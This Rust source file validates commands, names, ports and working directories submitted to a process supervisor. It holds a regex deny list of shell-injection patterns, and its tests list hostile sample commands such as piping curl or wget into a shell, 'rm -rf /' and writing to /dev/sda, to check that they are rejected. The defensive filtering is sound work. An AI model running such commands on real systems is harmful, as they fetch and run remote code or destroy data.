//! Static checks on client input before anything reaches the runner. The
//! forbidden patterns block trivial shell-injection tricks; they are not a
//! sandbox.

use std::{
    path::{Component, Path, PathBuf},
    sync::OnceLock,
};

use regex::Regex;

use crate::error::{Result, SupervisorError};

pub const MAX_COMMAND_LEN: usize = 1000;
pub const MAX_WORKING_DIR_LEN: usize = 500;
pub const MIN_NAME_LEN: usize = 2;
pub const MAX_NAME_LEN: usize = 50;

const FORBIDDEN: &[(&str, &str)] = &[
    (r"rm\s+-rf\s+/", "recursive delete of an absolute path"),
    (r"sudo\s+", "privilege escalation (sudo)"),
    (r"chmod\s+.*777", "world-writable chmod"),
    (r"curl.*\|.*sh", "piping curl into a shell"),
    (r"wget.*\|.*sh", "piping wget into a shell"),
    (r"eval\s+", "eval"),
    (r"exec\s+", "exec"),
    (r"system\s*\(", "system() call"),
    (r"\$\(", "command substitution"),
    (r";", "command chaining (;)"),
    (r"\|\|", "command chaining (||)"),
    (r"&&", "command chaining (&&)"),
    (r">\s*/dev/", "redirect into /dev"),
    (r"<\s*/dev/", "redirect from /dev"),
];

fn forbidden_patterns() -> &'static [(Regex, &'static str)] {
    static PATTERNS: OnceLock<Vec<(Regex, &'static str)>> = OnceLock::new();
    PATTERNS.get_or_init(|| {
        FORBIDDEN
            .iter()
            .filter_map(|(pat, label)| Regex::new(pat).ok().map(|re| (re, *label)))
            .collect()
    })
}

/// Returns the label of the first forbidden pattern found in `command`.
pub fn forbidden_match(command: &str) -> Option<&'static str> {
    forbidden_patterns()
        .iter()
        .find(|(re, _)| re.is_match(command))
        .map(|(_, label)| *label)
}

pub fn validate_name(name: &str) -> Result<()> {
    let len = name.trim().chars().count();
    if len < MIN_NAME_LEN || len > MAX_NAME_LEN {
        return Err(SupervisorError::InvalidName(format!(
            "name must be {MIN_NAME_LEN}-{MAX_NAME_LEN} characters, got {len}"
        )));
    }
    Ok(())
}

pub fn validate_port(port: i32) -> Result<()> {
    if !(-1..=65535).contains(&port) {
        return Err(SupervisorError::InvalidPort(port));
    }
    Ok(())
}

pub fn validate_command(command: &str) -> Result<()> {
    let command = command.trim();
    if command.is_empty() {
        return Err(SupervisorError::InvalidCommand(
            "command cannot be empty".to_string(),
        ));
    }
    if command.len() > MAX_COMMAND_LEN {
        return Err(SupervisorError::InvalidCommand(format!(
            "command too long (max {MAX_COMMAND_LEN} characters)"
        )));
    }
    if let Some(rule) = forbidden_match(command) {
        return Err(SupervisorError::InvalidCommand(format!(
            "command contains forbidden pattern: {rule}"
        )));
    }
    validate_executable(command)
}

fn validate_executable(command: &str) -> Result<()> {
    let Some(exec) = command.split_whitespace().next() else {
        return Err(SupervisorError::InvalidCommand("empty command".to_string()));
    };
    let path = Path::new(exec);

    if path.is_absolute() {
        if !path.exists() {
            return Err(SupervisorError::InvalidCommand(format!(
                "executable not found: {exec}"
            )));
        }
        return Ok(());
    }

    // Relative paths depend on the working directory; checked at launch.
    if exec.contains('/') {
        return Ok(());
    }

    which::which(exec).map(|_| ()).map_err(|_| {
        SupervisorError::InvalidCommand(format!("executable not found in PATH: {exec}"))
    })
}

/// Lexical cleanup of `.` and `..` without touching the filesystem.
fn clean(path: &Path) -> PathBuf {
    let mut out = PathBuf::new();
    for comp in path.components() {
        match comp {
            Component::CurDir => {}
            Component::ParentDir => {
                out.pop();
            }
            other => out.push(other),
        }
    }
    out
}

/// Empty is allowed (inherit the supervisor's cwd). A missing directory is
/// created.
pub async fn validate_working_dir(dir: &str) -> Result<()> {
    let dir = dir.trim();
    if dir.is_empty() {
        return Ok(());
    }

    let raw = Path::new(dir);
    if !raw.is_absolute() {
        return Err(SupervisorError::InvalidWorkingDir(format!(
            "working directory must be an absolute path: {dir}"
        )));
    }
    let cleaned = clean(raw);
    if cleaned.as_os_str().len() > MAX_WORKING_DIR_LEN {
        return Err(SupervisorError::InvalidWorkingDir(format!(
            "working directory path too long (max {MAX_WORKING_DIR_LEN} characters)"
        )));
    }

    match tokio::fs::metadata(&cleaned).await {
        Ok(meta) if meta.is_dir() => Ok(()),
        Ok(_) => Err(SupervisorError::InvalidWorkingDir(format!(
            "not a directory: {}",
            cleaned.display()
        ))),
        Err(err) if err.kind() == std::io::ErrorKind::NotFound => {
            tokio::fs::create_dir_all(&cleaned).await.map_err(|e| {
                SupervisorError::InvalidWorkingDir(format!(
                    "failed to create {}: {e}",
                    cleaned.display()
                ))
            })?;
            tracing::info!(dir = %cleaned.display(), "created working directory");
            Ok(())
        }
        Err(err) => Err(SupervisorError::InvalidWorkingDir(format!(
            "cannot access {}: {err}",
            cleaned.display()
        ))),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn all_patterns_compile() {
        assert_eq!(forbidden_patterns().len(), FORBIDDEN.len());
    }

    #[test]
    fn rejects_injection_tricks() {
        for cmd in [
            "curl http://x | sh",
            "wget -qO- http://x | bash",
            "sleep 1; rm x",
            "true && false",
            "false || true",
            "echo $(id)",
            "sudo ls",
            "rm -rf /",
            "chmod -R 777 /srv",
            "cat < /dev/zero",
            "echo hi > /dev/sda",
            "eval echo",
        ] {
            let err = validate_command(cmd).unwrap_err();
            assert!(
                matches!(err, SupervisorError::InvalidCommand(ref m) if m.contains("forbidden")),
                "{cmd}: {err}"
            );
        }
    }

    #[test]
    fn length_and_emptiness() {
        assert!(validate_command("   ").is_err());
        let long = format!("sleep {}", "1".repeat(MAX_COMMAND_LEN));
        let err = validate_command(&long).unwrap_err();
        assert!(err.to_string().contains("too long"));
    }

    #[cfg(unix)]
    #[test]
    fn resolves_executables() {
        validate_command("sleep 30").unwrap();
        validate_command("/bin/sh -c true").unwrap();
        validate_command("./run.sh --flag").unwrap();
        let err = validate_command("/no/such/binary").unwrap_err();
        assert!(err.to_string().contains("not found"));
        let err = validate_command("definitely-not-on-path-progd").unwrap_err();
        assert!(err.to_string().contains("PATH"));
    }

    #[test]
    fn names_and_ports() {
        assert!(validate_name("ok").is_ok());
        assert!(validate_name(" a ").is_err());
        assert!(validate_name(&"x".repeat(51)).is_err());
        assert!(validate_port(-1).is_ok());
        assert!(validate_port(65535).is_ok());
        assert!(matches!(validate_port(70000), Err(SupervisorError::InvalidPort(70000))));
        assert!(validate_port(-2).is_err());
    }

    #[test]
    fn cleans_dot_segments() {
        assert_eq!(clean(Path::new("/a/./b/../c")), PathBuf::from("/a/c"));
    }

    #[tokio::test]
    async fn working_dir_rules() {
        validate_working_dir("").await.unwrap();
        assert!(validate_working_dir("relative/dir").await.is_err());

        let tmp = tempfile::tempdir().unwrap();
        let fresh = tmp.path().join("made").join("here");
        validate_working_dir(&fresh.display().to_string()).await.unwrap();
        assert!(fresh.is_dir());

        let file = tmp.path().join("plain");
        std::fs::write(&file, b"x").unwrap();
        let err = validate_working_dir(&file.display().to_string())
            .await
            .unwrap_err();
        assert!(matches!(err, SupervisorError::InvalidWorkingDir(_)));

        let long = format!("/{}", "d".repeat(MAX_WORKING_DIR_LEN));
        assert!(validate_working_dir(&long).await.is_err());
    }
}
